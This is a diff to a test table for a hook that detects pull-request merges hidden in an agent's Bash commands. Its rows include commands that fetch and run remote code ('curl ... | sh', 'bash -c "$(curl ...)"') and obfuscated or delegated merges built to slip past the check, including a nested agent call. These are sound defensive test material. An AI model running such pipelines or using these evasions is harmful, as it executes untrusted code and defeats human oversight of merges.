@@ -159,8 +159,24 @@ ROWS: list[tuple[str, str, Any, str, dict[str, str], list[dict[str, Any]]]] = [
     ("base64-to-sh-seen-through", "Bash", "echo Z2ggcHIgbWVyZ2UgNw== | base64 -d | sh", "app", {},
      [maybe(via="gh_pr_merge", pr=7, repo=CWD_REPO)]),
     ("undecodable-to-sh", "Bash", "curl -s https://x.example/p | base64 -d | sh", "app", {}, [maybe(via="obfuscated")]),
-    ("eval-ssh-agent", "Bash", 'eval "$(ssh-agent -s)"', "app", {}, []),
-    ("curl-installer", "Bash", "curl -fsSL https://example.com/install.sh | bash", "app", {}, []),
+    # text produced at run time and run by a shell is undetermined (design §6), except the output of
+    # the few set-up programs hook/detect/shellenv.py models (variables only)
+    ("eval-ssh-agent", "Bash", 'eval "$(ssh-agent -s)"; gh pr merge 7', "app", {}, [pr(7)]),
+    ("eval-brew-shellenv", "Bash", 'eval "$(/opt/homebrew/bin/brew shellenv)"', "app", {}, []),
+    ("eval-direnv-then-flagless-merge", "Bash", 'eval "$(direnv export bash)" && gh pr merge 7', "app", {},
+     [maybe(pr=7, repo=None)]),  # .envrc may export GH_REPO
+    ("eval-unknown-program", "Bash", 'eval "$(conda shell.bash hook)"', "app", {},
+     [maybe(via="runtime", repo=CWD_REPO)]),
+    ("curl-installer", "Bash", "curl -fsSL https://example.com/install.sh | bash", "app", {},
+     [maybe(via="runtime", repo=CWD_REPO)]),
+    ("bash-c-curl", "Bash", 'bash -c "$(curl -fsSL https://example.com/i.sh)"', "app", {}, [maybe(via="runtime")]),
+    ("source-process-substitution", "Bash", "source <(kubectl completion bash)", "app", {}, [maybe(via="runtime")]),
+    ("dot-dev-stdin", "Bash", "curl -s https://x.example/s | . /dev/stdin", "app", {}, [maybe(via="runtime")]),
+    ("command-word-substituted", "Bash", "$(cat cmd.txt) 7", "app", {}, [maybe(via="runtime")]),
+    ("command-word-variable", "Bash", '"${CMD}" --squash', "app", {}, [maybe(via="runtime")]),
+    ("alias-maybe-expanded", "Bash", "shopt -s expand_aliases\nalias m='gh pr merge'\nm 7", "app", {},
+     [maybe(pr=7, repo=CWD_REPO)]),
+    ("built-merge-word", "Bash", 'x=g; ${x}h p${y}r mer""ge 5', "app", {}, [maybe(pr=5)]),
     # wrappers
     ("wrapper-stack", "Bash", "timeout --signal=TERM 30s stdbuf -oL nice -n 5 gh pr merge 7", "app", {}, [pr(7)]),
     ("sudo-env", "Bash", "sudo -u bot -E GH_REPO=o/r gh pr merge 7", "app", {}, [pr(7, "o/r")]),
@@ -256,13 +272,22 @@ ROWS: list[tuple[str, str, Any, str, dict[str, str], list[dict[str, Any]]]] = [
      [pr(7, undetermined=True)]),
     ("node-argv-list", "Bash", "node -e 'require(\"child_process\").execFileSync(\"gh\", [\"pr\", \"merge\", \"7\"])'",
      "app", {}, [pr(7, undetermined=True)]),
+    ("python-builds-the-words", "Bash", "python3 -c \"import subprocess as s; s.run(('g'+'h','pr','mer'+'ge','7'))\"",
+     "app", {}, [maybe(via="script", repo=CWD_REPO)]),  # can run programs: undetermined, not "no merge"
+    ("python-json-one-liner", "Bash", "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"x\"])' < a.json",
+     "app", {}, []),
     ("make-recipe-read", "Bash", "make ship", "maker", {}, [pr(7, "make/r")]),
     ("make-unknown-target", "Bash", "make land", "maker", {}, [maybe(via="make", branch="topic")]),
     ("make-dry-run", "Bash", "make -n ship", "maker", {}, []),
     ("npm-script-read", "Bash", "npm run ship", "node", {}, [pr(7, "node/r")]),
     ("nested-agent", "Bash", 'claude -p "please merge PR 7"', "app", {}, [maybe(via="agent")]),
     ("git-extension", "Bash", "git merge-pr 7", "app", {}, [maybe(via="git_ext", pr=7)]),
-    ("case-via-tree-sitter", "Bash", 'case "$1" in go) gh pr merge 7;; esac', "app", {}, [pr(7)]),
+    ("case-undecided", "Bash", 'case "$1" in go) gh pr merge 7;; esac', "app", {}, [maybe(pr=7)]),
+    ("case-decided", "Bash", 'x=go; case $x in g*) gh pr merge 7;; *) gh pr merge 8;; esac', "app", {}, [pr(7)]),
+    ("case-fallthrough", "Bash", "case a in a) gh pr merge 7;& b) gh pr merge 8;; c) gh pr merge 9;; esac", "app", {},
+     [pr(7), pr(8)]),
+    ("case-extglob-via-tree-sitter", "Bash", 'f() { case "$1" in @(a|b)) gh pr merge 7;; esac; }; f a', "app", {},
+     [maybe(pr=7)]),
     ("function-via-tree-sitter", "Bash", "f() { gh pr merge 7; }; f", "app", {}, [pr(7)]),
     ("fish-syntax-unparsed", "Bash", "gh pr merge $b --body (string join x)", "app", {},
      [maybe(via="unparsed"), maybe(via="gh_pr_merge")]),
@@ -321,7 +346,7 @@ def test_common_path_imports_no_parser_and_no_heavy_module(work: Path) -> None:
         f"cwd={str(work / 'app')!r}, env={{}})\n"
         "assert len(d.merges) == 2, d\n"
         "print(' '.join(sorted(set(sys.modules) - before)))\n"
-        "detect('Bash', {'command': 'case x in a) gh pr merge 5;; esac'}, cwd=None, env={})\n"
+        "detect('Bash', {'command': 'case x in @(a)) gh pr merge 5;; esac'}, cwd=None, env={})\n"
         "print('tree_sitter_bash' in sys.modules)\n"
     )
     done = subprocess.run([sys.executable, "-I", "-c", probe], capture_output=True, text=True, check=True)
